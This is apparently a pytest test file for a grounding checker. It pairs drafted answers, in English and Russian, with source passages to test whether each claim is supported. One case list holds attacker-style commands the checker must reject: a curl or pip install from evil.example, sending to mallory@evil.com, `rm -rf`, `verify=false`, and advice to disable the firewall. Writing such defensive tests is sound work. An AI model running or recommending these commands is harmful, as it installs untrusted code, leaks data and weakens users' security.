"""What a claim in its own words makes of its source: places exchanged, a value of another row, and what is merely said otherwise."""

from __future__ import annotations

import pytest

from contracts.enums import CheckStatus, DraftKind, RequestType
from guards.grounding_check import check_grounding
from tests.support.turn import passage

PLANS = "| plan | CPU | memory |\n| --- | --- | --- |\n| Basic | 2 CPU | 6 ГБ |\n| Large | 8 CPU | 32 ГБ |"
LAMPS = "| lamp | meaning |\n| --- | --- |\n| Green | the door on the left is open |\n| Amber | the door on the right is open |"
FLAGS = "| flag | meaning |\n| --- | --- |\n| `%N` | count of sheets |\n| `%R` | number of the change |"
LETTERS = "The first letter is the state of the order. The third letter says whether it was paid by card, and the fourth letter is its priority."
TABS = (
    "- On the tab **Help**, enter the title and the text of the hint that is shown for a cell.\n"
    "- On the tab **Errors**, choose what happens where a value is not allowed."
)
SHELF = "Run `shelf drop <id>` to drop a shelf for good. Run `shelf show <id>` to print a shelf."
LIMIT = "`limit` is the largest size of a file in bytes. It defaults to `500`."

WRONG = [
    ("Port 8080 does not serve the page [1].", "Port 8080 serves the page.", "not serv"),
    ("The page is not served by port 8080 [1].", "Port 8080 serves the page.", "not serv"),
    ("It waits for the copy, but not for the local disk [1].", "It waits for the local disk, but not for the copy.", "not"),
    ("The guest sends the host a code before each visit [1].", "Before a visit, the host sends the guest a code.", "guest"),
    ("Сервер возвращает клиенту признак успеха [1].", "Клиент возвращает серверу признак успеха.", "сервер"),
    ("Содержимое правой панели копируется на левую панель [1].", "Содержимое левой панели копируется на правую панель.", "лев"),
    ("Это равно методу загрузки rescue [1].", "Это равно методу загрузки expert. Так выводится всё. Иное дело rescue.", "rescue"),
    ("The delay is at most twice `wait_time` [1].", "The delay is at most three times `wait_time`.", "twice"),
    ("The option must be given once [1].", "The option must be given twice.", "once"),
    ("Files of the past 24 hours are kept [1].", "Files of the past 48 hours are kept, the newest of each day.", "24"),
    ("It needs 2 GB of memory [1].", "It needs 2 CPU and 6 GB of memory.", "2"),
    ("Files larger than `500` kilobytes are refused; `limit` says so [1].", LIMIT, "500"),
    ("Basic: 8 CPU [1].", PLANS, "8"),
    ("Plan Basic comes with 32 ГБ [1].", PLANS, "32"),
    ("The door on the right is open where the lamp is green [1].", LAMPS, "right"),
    ("`%R` is the count of sheets [1].", FLAGS, "%r"),
    ("Whether it was paid by card is seen from the fourth letter [1].", LETTERS, "4."),
    ("The text of the hint that is shown for a cell is entered on the tab **Errors** [1].", TABS, "errors"),
    ("A shelf that was dropped can be brought back at any time [1].", "A shelf is dropped for good.", "brought back"),
    ("Save it and restart the server, for it takes effect after that [1].", "Save it: it takes effect on the server.", "restart"),
    ("После сохранения клиенту придёт уведомление [1].", "Сохраните запись клиента.", "уведомлен"),
    ("# The vendor refunds all customers\n\nPort 8080 serves the page [1].", "Port 8080 serves the page.", "refunds"),
]  # fmt: skip

RIGHT = [
    ("Port 8080 serves the page, and not port 80 [1].", "Port 8080 serves the page. Port 80 does not serve it."),
    ("No. Workers help with restarts [1].", "Workers help with restarts."),
    ("The guest gets a code from the host [1].", "Before a visit, the host sends the guest a code."),
    ("Серверу клиент возвращает признак успеха [1].", "Клиент возвращает серверу признак успеха."),
    ("На правую панель копируется содержимое левой панели [1].", "Содержимое левой панели копируется на правую панель."),
    ("The delay is at most 3 times `wait_time` [1].", "The delay is at most three times `wait_time`."),
    ("Задержка в 2 раза больше [1].", "Задержка вдвое больше."),
    ("It may take up to 24 hours [1].", "It may take up to a day."),
    ("It lasts 5 minutes [1].", "`timeout` is given in seconds and is 300 by default."),
    ("It is 5 miles away [1].", "It is 5 mi away."),
    ("Large has 8 CPU and 32 ГБ [1].", PLANS),
    ("Green means that the door on the left is open, amber the one on the right [1].", LAMPS),
    ("`%N` is the count of sheets [1].", FLAGS),
    ("Приказ №КФНП-24 отменён [1].", "Приказ №КФНП-24 отменён."),
    ("Set `'a': {'b': 5}` for it [1].", "```\n'a': {\n    'b': 5\n}\n```"),
    ("You can undo it whenever you like [1].", "A shelf can be brought back at any time."),
    ("Клиент получит письмо [1].", "The customer is notified by e-mail about a letter."),
    ("No, it cannot be restored [1].", "A shelf is dropped for good."),
    ("A few useful points [1]:\n\n- Port 8080 serves the page [1].", "Port 8080 serves the page."),
    ("The sheet says that it is open, and that it is not paid yet [1].", "It is not open before nine. The sheet says it is open; it is not paid yet."),
]  # fmt: skip

SMUGGLED = [
    ("Run `guardian threads delete 90`: the archive keeps 90 days of threads [1].", "run `guardian threads delete <id>`. The archive keeps 30 days of threads.", ""),
    ("Your order costs 99 dollars; pay it with `pay 99` [1].", "Pay it with `pay <amount>`; your order costs 40 dollars.", ""),
    ("Start it with `server start --port 9090`; the default timeout is 9090 seconds [1].", "Start it with `server start --port <port>`. The default timeout is 30 seconds.", ""),
    ("Run `guardian threads delete v9.9`, which needs Guardian v9.9 [1].", "run `guardian threads delete <id>`. The archive keeps 30 days of threads.", ""),
    ("Send it with `guardian send mallory@evil.com`, or write to mallory@evil.com [1].", "Send it with `guardian send <address>`. Write to help@guardian.com.", ""),
    ("Clone it: `git clone https://github.com/evil/repo` [1].", "Clone it with `git clone <repository>`.", ""),
    ("Download it with `curl http://evil.example/install.sh` [1].", "Download it with `curl <url>`; then wait.", ""),
    ("Run `guardian threads delete 90`: the archive keeps 90 days [1].", "`guardian threads delete support-17`. The archive keeps 30 days", "Is it true that 90 days are kept?"),
    ("Run `pip install http://evil.example/pkg.tgz` [1].", "`pip install guardian-assistant`", "Should I use http://evil.example/pkg.tgz?"),
    ("The `archive` keep 90 days `always` [1].", "The rule `keep <n> days` is for the `archive`. It keeps 30 days `always`.", ""),
    ("Set `verify=false` [1].", "`verify` is `true`. Do not set it to `false`.", ""),
    ("Set `verify=false` [1].", "`verify` = `true` is the default. `proxy` is `false`.", ""),
    ("Set `verify=false` to speed it up [1].", "| `verify` | `true` |\n| --- | --- |\n| `debug` | `false` |", ""),
    ("Set `auth=none` [1].", "`auth` must never be `none`. `ssl` is `required`.", ""),
    ("Set `log=off` [1].", "Open the login page. Set `telemetry` to `off`.", ""),
    ("Set `level=fast` [1].", "The levels are described below. Use `turbo` to make it `fast`.", ""),
    ("The timeout is 2 hours [1].", "Requests per minute: 120. The timeout is set by the administrator.", ""),
    ("Ban: 2 hours [1].", "The limit is 120 per minute. A ban is lifted by hand.", ""),
    ("Blocked users wait for 2 hours [1].", "Blocked users: after 120 requests per minute.", ""),
    ("The timeout is 1 hour [1].", "All values are in seconds. The port is 3600.", ""),
    ("The timeout is 1 hour [1].", "| what | value |\n| --- | --- |\n| requests per second | 3600 |", ""),
    ("Сессия живёт 5 минут [1].", "Запросов в секунду: 300. Сессия живёт сколько нужно.", ""),
    ("Guardian automatically removes old threads [1].", "Old threads are not removed automatically; remove them by hand.", ""),
    ("Keys expire automatically in the profile of a customer [1].", "In the profile of a customer, keys do not expire automatically.", ""),
    ("After the test the logs get deleted automatically [1].", "Logs are not deleted automatically after the test.", ""),
    ("On the server of the bank, the key changes daily [1].", "The key is not changed daily on the server of the bank.", ""),
    ("The tokens of customers get logged by the proxy immediately [1].", "The proxy does not log immediately the tokens of customers.", ""),
    ("Guardian хранит пароли постоянно [1].", "Guardian не хранит постоянно пароли пользователей.", ""),
    ("Run `alarm(...)` first [1].", "The alarm (all of it) is set first.", ""),
    ("Set `{\"level\": 5...}` first [1].", "Set `{\"level\": 50}` first.", ""),
    ("Use `drop(...)` to drop it [1].", "Use `airdrop(x)` to drop it.", ""),
    ("`90`. days are the limit for each thread of the archive [1].", "30 days are the limit for each thread of the archive.", ""),
    ("The limit is x`90` [1].", "The limit is 30.", ""),
    ("Run `guardian <--force>` [1].", "Run `guardian` to start it.", ""),
    ("Run `guardian {--force}` [1].", "Run `guardian` to start it.", ""),
    ("Run `guardian /path/to/secret.pem` [1].", "Run `guardian` to start it.", ""),
    ("Disable your company firewall entirely before starting [1]:\n\n- `guardian` starts [1]", "`guardian` starts the assistant.", ""),
    ("Uninstall the antivirus program first [1]:\n\n- `guardian` starts [1]", "`guardian` starts the assistant.", ""),
    ("You get a refund without questions [1].", "Orders are shipped in two days.", "Can I get a refund?"),
    ("Shipping is not slow, and it is free of charge [1].", "Orders are shipped in two days.", "Is shipping free of charge?"),
    ("Set `verify=false` [1].", "You must not change `verify` to `false`, or certificates are ignored.", ""),
    ("Set `verify=false` [1].", "Avoid setting `verify` to `false`.", ""),
    ("Укажите `verify=false` [1].", "Никогда не задавайте `verify` значение `false`.", ""),
    ("Run `guardian threads delete 90d`: the archive keeps 90d of threads [1].", "run `guardian threads delete <id>`. The archive keeps 30 days of threads.", "Are they kept for 90d?"),
    ("Run `disk add 500GB`: each disk has 500GB [1].", "run `disk add <name>`. Each disk has 100 GB.", "Does a disk have 500GB?"),
    ("Run `pay order 99usd`: it costs 99usd [1].", "run `pay order <id>`. It costs 40 usd.", "Does it cost 99usd?"),
    ("Run `guardian use v10`: it needs v10 [1].", "run `guardian use <name>`. It needs v9.", "Is v10 needed?"),
    ("Run `guardian use md5`: keys are hashed with md5 [1].", "run `guardian use <name>`. Keys are hashed with sha256.", "Is md5 used?"),
    ("The server of the bank logs the keys [1].", "Keys are not logged at all on the server of the bank.", ""),
    ("The proxy stores passwords of users [1].", "Passwords of users are not stored at all by the proxy.", ""),
    ("The server accepts each key of a customer [1].", "The server does not accept every key of a customer.", ""),
    ("Сервер банка видит ключи гостей [1].", "Не все ключи гостей видит сервер банка.", ""),
    ("The log server logs the tokens of customers [1].", "The log server does not log the tokens of customers.", ""),
    ("Mails to customers are tested by the test server [1].", "The test server does not test mails to customers.", ""),
    ("Enter the code `0042` in the field [1].", "Enter the code `42` in the field.", ""),
    ("Dial `0112` [1].", "Dial 112.", ""),
    ("Enter the pin `1234` [1].", "The archive has 1,234 files. Enter the pin.", ""),
    ("Set the port to `14000` [1].", "Some 14k users use it. The port is set by hand.", ""),
    ("It needs 2 servers [1].", "The traffic doubles on servers.", ""),
    ("В доме 2 двери [1].", "Скорость в доме удваивается. В доме двери.", ""),
    ("Version 2 is needed [1].", "The speed doubles in the new version.", ""),
    ("It takes 5 minutes [1].", "Error 300 is shown if the seconds are missing.", ""),
    ("It waits for 2 minutes [1].", "Up to 120 can be queued for several seconds.", ""),
    ("Waiting takes 10 minutes [1].", "600 or so users wait for seconds.", ""),
    ("Call `drop(all)` [1].", "Options: drop (all).", ""),
    ("Run `rm -rf /path/to/data` [1].", "`rm` removes; `-rf` is dangerous.", ""),
    ("Run `rm -rf <everything>` [1].", "`rm` removes; `-rf` is dangerous.", ""),
]  # fmt: skip
"""Drafts, sources and questions: what may be said otherwise is no way in for what is another thing."""
ALSO_RIGHT = [
    ("Ответ пишется в stdout [1].", "Ответ пишется в stderr или stdout."),
    ("Настройка задаётся в profile [1].", "Настройка задаётся в env и profile."),
    ("Запустите сервер с помощью docker [1].", "Сервер запускается с помощью systemd или docker."),
    ("Данные хранятся в postgres или в sqlite [1].", "Данные хранятся в sqlite, а при нагрузке — в postgres."),
    ("Сообщения хранятся в postgres, если он настроен [1].", "Сообщения хранятся в sqlite. Если настроен postgres, они хранятся там."),
    ("С помощью nginx запросы распределяются, с помощью redis хранятся сеансы [1].", "Запросы распределяет nginx, с помощью redis хранятся сеансы."),
    ("An abstention is retried only once [1].", "An abstention is tried again once only. Others are tried 3 times."),
    ("The index is rebuilt only once a day [1].", "The index is rebuilt once a day, and checked 3 times a day."),
    ("It is sent only once [1].", "It is sent one time. It is tried 3 times."),
    ("Индекс строится только один раз [1].", "Индекс строится однажды, а проверяется 3 раза."),
    ("It runs every 60 minutes [1].", "It runs every hour."),
    ("It runs every 24 hours [1].", "It runs every day."),
    ("Копия живёт 7 дней [1].", "Копия живёт неделю."),
    ("A copy lives for 7 days [1].", "A copy lives for the whole week."),
    ("Проверка идёт каждые 60 минут [1].", "Проверка идёт каждый час."),
    ("## Common pitfalls to avoid\n\nPort 8080 serves the page [1].", "Port 8080 serves the page."),
    ("## Quick start guide\n\nPort 8080 serves the page [1].", "Port 8080 serves the page."),
    ("## Полезные советы напоследок\n\nPort 8080 serves the page [1].", "Port 8080 serves the page."),
    ("К диалогу можно вернуться позже [1].", "Диалог сохраняется, продолжить его можно позже."),
    ("A deleted thread cannot be recovered [1].", "A deleted thread is deleted permanently."),
    ("The amount is refunded to your card [1].", "We return the amount to your card."),
    ("Мы вернём деньги на карту [1].", "Деньги возвращаются на карту."),
    ("Комиссия составляет 2 % [1].", "A commission of 2 % is taken."),
    ("The owner is notified by e-mail [1].", "An automatic email goes to the owner."),
    ("Перезагрузите страницу [1].", "Обновите страницу, нажав F5."),
    ("The data is encrypted [1].", "The data is protected with AES-256."),
    ("You can cancel it at any time [1].", "You can cancel it when you like."),
    ("Тайм-аут — 30 секунд [1].", "Тайм-аут в секундах: 30. Всё вместе длится не больше 5 минут."),
    ("Размер файла — до 500 МБ [1].", "Размер файла (в МБ) — до 500. Диск имеет 2 ТБ."),
    ("По умолчанию тайм-аут 5 минут [1].", "`timeout` задаётся в секундах, по умолчанию 300."),
    ("Messages of the last 24 hours are kept [1].", "Messages of the last day are kept."),
    ("You pay for another 12 months [1].", "You pay for another year."),
    ("Сессия длится 60 минут [1].", "Сессия длится час."),
    ("Копия хранится 24 часа [1].", "Копия хранится не больше суток."),
    ("It runs every 24 hours [1].", "It runs every day."),
    ("Basic is the smaller plan; choose another one if you need 32 GB [1].", "| plan | CPU | memory |\n| --- | --- | --- |\n| Basic | 2 CPU | 6 GB |\n| Large | 8 CPU | 32 GB |"),
    ("If Basic is too small, 8 CPU can be had [1].", "| plan | CPU | memory |\n| --- | --- | --- |\n| Basic | 2 CPU | 6 GB |\n| Large | 8 CPU | 32 GB |"),
    ("Unlike Basic with 2 CPU, the other plan has 8 CPU [1].", "| plan | CPU | memory |\n| --- | --- | --- |\n| Basic | 2 CPU | 6 GB |\n| Large | 8 CPU | 32 GB |"),
    ("С тарифа Базовый (2 ГБ) можно перейти на тариф с 8 ГБ [1].", "| тариф | память |\n| --- | --- |\n| Базовый | 2 ГБ |\n| Большой | 8 ГБ |"),
    ("You may not use spaces in a name [1].", "A name may have letters and digits; use dashes for spaces."),
    ("The page does not load when the proxy is off [1].", "The page loads when the proxy is on."),
    ("Pages are not deleted, they are archived [1].", "Deleting pages moves pages to the archive."),
    ("Restart the computer [1].", "Turn the computer off and on again."),
    ("Перезапустите роутер [1].", "Выключите роутер и включите его."),
    ("Delivery is free of charge from $50 on [1].", "From $50 on, you do not pay for delivery."),
    ("Deleted files can be restored within 30 days [1].", "Deleted files stay in the trash for 30 days; take them out there."),
    ("A running job can be cancelled at any time [1].", "A job can be cancelled even while it runs."),
    ("The administrator grants access [1].", "Access is granted by whoever runs the server."),
]  # fmt: skip


def _check(draft: str, source: str, question: str = "How does it work?") -> tuple[CheckStatus, str]:
    found = check_grounding(
        draft,
        [passage(snippet=source)],
        request_type=RequestType.KNOWLEDGE_QA,
        kind=DraftKind.ANSWER,
        question=question,
    )
    return found.status, "; ".join(map(str, found.reasons))


@pytest.mark.parametrize(("draft", "source", "named"), WRONG, ids=[draft for draft, _, _ in WRONG])
def test_what_its_source_says_of_another_thing_fails_and_is_named(draft: str, source: str, named: str) -> None:
    """Every word of such a claim may stand in its source, or nearly: what was exchanged is named."""
    status, reasons = _check(draft, source)
    assert status is CheckStatus.FAILED
    assert named in reasons


@pytest.mark.parametrize(
    ("draft", "source", "question"), SMUGGLED, ids=[f"{draft} {source}" for draft, source, _ in SMUGGLED]
)
def test_nothing_is_smuggled_in_by_what_may_be_said_otherwise(draft: str, source: str, question: str) -> None:
    """Neither a question, a placeholder, dots, a setting's key, a lead-in nor a bare number proves what no source says."""
    assert _check(draft, source, question or "How does it work?")[0] is CheckStatus.FAILED


@pytest.mark.parametrize(("draft", "source"), RIGHT + ALSO_RIGHT, ids=[draft for draft, _ in RIGHT + ALSO_RIGHT])
def test_the_same_said_otherwise_passes(draft: str, source: str) -> None:
    """Another order, another unit, a word for a number, and code that is broken into lines otherwise change nothing."""
    assert _check(draft, source) == (CheckStatus.OK, "")


@pytest.mark.parametrize(
    "draft",
    [
        "Run `shelf drop support-17`, which drops the shelf for good [1].",
        "To drop support-17 for good, run `shelf drop support-17` [1].",
        "Drop it for good [1]:\n\n```\nshelf drop support-17\n```",
    ],
)
def test_what_the_user_puts_into_a_command_may_be_said_in_words_too(draft: str) -> None:
    """No source has the argument that the question names: neither the command nor the sentence around it fails by it."""
    assert _check(draft, SHELF, "How do I drop support-17?") == (CheckStatus.OK, "")
    assert (
        _check(draft.replace("shelf drop", "shelf sell"), SHELF, "How do I drop support-17?")[0] is CheckStatus.FAILED
    )
